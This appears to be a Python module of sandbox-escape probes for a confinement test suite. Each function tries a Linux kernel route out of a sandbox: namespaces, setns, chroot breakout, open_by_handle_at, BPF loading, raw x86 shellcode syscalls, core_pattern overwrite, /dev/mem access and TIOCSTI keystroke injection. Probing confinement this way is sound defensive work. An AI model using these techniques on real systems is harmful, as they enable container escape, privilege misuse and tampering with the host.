"""Uses parts of the kernel that a node has no need of, and that have been ways out before."""

import ctypes
import mmap
import os
import struct
import time

HOLD = 0.4
_libc = ctypes.CDLL(None, use_errno=True)


def new_users():
    """A namespace in which it is root."""
    _hold("new_users", lambda: _done(_libc.unshare(0x10000000)))


def new_users_and_mounts(outside):
    """A namespace in which it may mount, and there a secret under another name."""
    _done(_libc.unshare(0x10020000))
    _done(_libc.mount(os.path.dirname(outside).encode(), b"/tmp", None, 4096, None))
    return open(f"/tmp/{os.path.basename(outside)}").read()


def new_users_by_clone():
    """A process in a namespace in which it is root."""
    pid = _done(_libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0))
    if pid == 0:
        _libc.prctl(15, b"+new_users_by_clone")
        time.sleep(HOLD)
        os._exit(0)
    os.waitpid(pid, 0)


def joined(bystander):
    """The namespaces of another process.

    Unconfined: root
    """
    other = os.open(f"/proc/{bystander}/ns/mnt", os.O_RDONLY)
    _done(_libc.setns(other, 0))
    return open(f"/proc/{bystander}/cwd/secret.txt").read()


def mounted(workspace):
    """A file system over the workspace.

    Unconfined: never, as root it would be seen by all
    """
    _done(_libc.mount(b"tmpfs", workspace.encode(), b"tmpfs", 0, None))
    open(f"{workspace}/mounted", "w").write("mounted")


def remounted(workspace):
    """What can only be read, so that it can be written.

    Unconfined: never, nothing is read-only there
    """
    for place in (workspace, "/", "/usr"):
        _libc.mount(None, place.encode(), None, 0x20 | 0x1000, None)
    open(f"{workspace}/remounted", "w").write("remounted")


def unmounted():
    """What hides something.

    Unconfined: never, it would take file systems from the machine
    """
    for place in (b"/tmp", b"/dev/shm", b"/proc", b"/"):
        _libc.umount2(place, 2)
    open("/tmp/unmounted", "w").write("unmounted")


def new_mount_calls(outside):
    """The newer calls for mounts.

    Unconfined: root
    """
    tree = _done(_libc.syscall(428, -100, os.path.dirname(outside).encode(), 1))
    return os.read(os.open("secret.txt", os.O_RDONLY, dir_fd=tree), 99).decode()


def new_root(outside):
    """Another root, and out of it again.

    Unconfined: root
    """
    root = os.open("/", os.O_RDONLY)
    os.chroot("/tmp")
    os.fchdir(root)
    os.chroot(".")
    return open(outside).read()


def by_handle(outside):
    """A file by its number in the file system, which no path leads to.

    Unconfined: root
    """
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    _done(_libc.name_to_handle_at(-100, outside.encode(), handle, ctypes.byref(mount), 0))
    place = os.open(os.path.dirname(outside), os.O_RDONLY)
    return os.read(_done(_libc.open_by_handle_at(place, handle, 0)), 99).decode()


def faults():
    """Page faults that it handles itself: it can stop the kernel where it likes."""
    _hold("faults", lambda: _done(_libc.syscall(323, 1)))


def counters():
    """Counters of the processor."""
    attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 1) + bytes(104), 128)
    attributes[40] = 0x60
    _hold("counters", lambda: _done(_libc.syscall(298, attributes, 0, -1, -1, 0)))


def kernel_program():
    """A program that the kernel runs.

    Unconfined: root
    """
    program = struct.pack("BBhi", 0xB7, 0, 0, 0) + struct.pack("BBhi", 0x95, 0, 0, 0)
    code = ctypes.create_string_buffer(program)
    name = ctypes.create_string_buffer(b"GPL")
    load = struct.pack("IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(name)) + bytes(96)
    _hold("kernel_program", lambda: _done(_libc.syscall(321, 5, load, len(load))))


def ring():
    """Work that the kernel does by itself."""
    _hold("ring", lambda: _done(_libc.syscall(425, 8, ctypes.create_string_buffer(120))))


def watcher():
    """Word of what others open.

    Unconfined: root
    """
    _hold("watcher", lambda: _done(_libc.syscall(300, 0, 0)))


def file_watcher():
    """One of the few watchers that all programs of the user share."""
    _hold("file_watcher", lambda: _done(_libc.inotify_init1(0)))


def nameless_memory():
    """Files in memory that no limit counts."""
    _hold("nameless_memory", lambda: _done(_libc.syscall(319, b"nameless_memory", 0)))


def secret_memory():
    """Memory that the kernel itself cannot look at.

    Unconfined: never, kernels have it switched off as a rule
    """
    _hold("secret_memory", lambda: _done(_libc.syscall(447, 0)))


def key():
    """Something in the key ring of the user, which outlives the node."""
    made = _done(_libc.syscall(248, b"user", b"attack:key", b"key", 3, -4))
    _libc.syscall(250, 15, made, 60)
    _libc.syscall(250, 5, made, 0x3F3F3F3F)


def message_queue():
    """A message queue, which outlives the node."""
    queue = _done(_libc.msgget(0xBAD1, 0o1666))
    _libc.msgsnd(queue, struct.pack("q", 1) + b"x", 1, 0)


def shared_segment():
    """Memory that all programs of the user share, and that outlives the node."""
    _done(_libc.shmget(0xBAD2, 4096, 0o1666))


def semaphores():
    """Semaphores, which outlive the node."""
    _done(_libc.semget(0xBAD3, 1, 0o1666))


def personality():
    """Another kind of process, whose memory lies where one can know it."""
    _hold("personality", lambda: _done(_libc.personality(0x0040000)))


def real_time():
    """Before all other processes.

    Unconfined: root
    """
    _hold("real_time", lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(9)))


def urgent():
    """Before most other processes.

    Unconfined: root
    """
    _hold("urgent", lambda: os.setpriority(os.PRIO_PROCESS, 0, -15))


def last_to_die():
    """Never ended if memory is short.

    Unconfined: never, it takes a privilege that root of a container need not have
    """
    _hold("last_to_die", lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))


def old_calls(victims_here):
    """Calls of a 32-bit program, which have other numbers."""
    path = f"{victims_here}/old_calls".encode()
    low = ctypes.c_void_p(_low(path))
    _run(
        b"\x53\xb8\x0a\x00\x00\x00\xbb" + struct.pack("<I", low.value) + b"\xcd\x80\x5b\xc3"
    )


def odd_numbers(victims_here):
    """Calls of another instruction set, whose numbers are higher: x32.

    Unconfined: never, kernels are built without it as a rule
    """
    path = f"{victims_here}/odd_numbers".encode()
    _libc.syscall(0x40000000 + 87, path)
    _libc.syscall(0x40000000 + 263, -100, path, 0)


def machine_code(victims_here):
    """A call from code of its own, which no library sees."""
    path = ctypes.create_string_buffer(f"{victims_here}/machine_code".encode())
    _run(b"\x48\xbf" + struct.pack("<Q", ctypes.addressof(path)) + b"\xb8\x57\0\0\0\x0f\x05\xc3")


def new_identity():
    """Another user.

    Unconfined: root
    """
    _hold("new_identity", lambda: os.setresuid(12345, 12345, 12345))


def hostname():
    """Another name for the machine.

    Unconfined: never, it would rename the machine
    """
    _done(_libc.sethostname(b"hostname-attack", 15))


def kernel_log():
    """What it calls, in the kernel's log, by a filter of its own.

    Unconfined: root
    """
    _libc.prctl(15, b"=kernel_log")
    log, allow = 0x7FFC0000, 0x7FFF0000
    steps = [(0x20, 0, 0, 0), (0x15, 0, 1, 110), (0x06, 0, 0, log), (0x06, 0, 0, allow)]
    code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *step) for step in steps))
    program = struct.pack("HxxxxxxQ", len(steps), ctypes.addressof(code))
    _libc.prctl(38, 1, 0, 0, 0)
    _libc.prctl(22, 2, program, 0, 0)
    _libc.syscall(317, 1, 0, program)
    for _ in range(100):
        _libc.syscall(110)


def core_pattern():
    """The program that the kernel starts at a crash.

    Unconfined: never, it would change the machine
    """
    open("/proc/sys/kernel/core_pattern", "w").write("|/bin/core_pattern")


def devices():
    """Disks and memory of the machine.

    Unconfined: never, what there is depends on the machine
    """
    found = []
    for name in ("mem", "kmem", "port", "vda", "sda", "nvme0n1", "kvm", "fuse", "loop0", "vsock"):
        try:
            found.append(os.open(f"/dev/{name}", os.O_RDONLY))
        except OSError:
            continue
    if found:
        _hold("devices", lambda: True)


def typed():
    """Keys that the user did not press, at the terminal that the server was started from.

    Unconfined: never, the tests have no terminal
    """
    import fcntl

    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in b"touch /tmp/typed\n":
        fcntl.ioctl(terminal, 0x5412, bytes([letter]))


def _done(result):
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def _hold(name, make):
    """Keep something until it has been seen, by a process whose name says whose it is."""
    _libc.prctl(15, f"={name}".encode())
    time.sleep(HOLD)
    held = make()
    time.sleep(HOLD)
    return bool(held)


def _run(code):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return ctypes.CFUNCTYPE(ctypes.c_long)(start)()


def _low(text):
    """A place for a text that a number of 32 bits can name."""
    _libc.mmap.restype = ctypes.c_size_t
    _libc.mmap.argtypes = [ctypes.c_size_t] * 6
    place = _libc.mmap(0x10000000, 4096, 3, 0x22 | 0x40, 2**64 - 1, 0)
    ctypes.memmove(place, text + b"\0", len(text) + 1)
    return place
